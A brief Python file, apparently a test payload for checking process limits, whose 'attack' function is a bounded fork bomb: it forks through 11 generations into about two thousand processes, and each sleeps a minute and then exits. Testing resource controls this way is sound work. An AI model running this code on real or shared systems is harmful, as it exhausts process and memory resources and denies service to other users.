"""Starts processes that start processes, up to a few thousand, each of which ends after a minute."""

import os
import time

GENERATIONS = 11


def attack(*args, **kwargs):
    for _ in range(GENERATIONS):
        try:
            os.fork()
        except OSError:
            break
    time.sleep(60)
    os._exit(0)
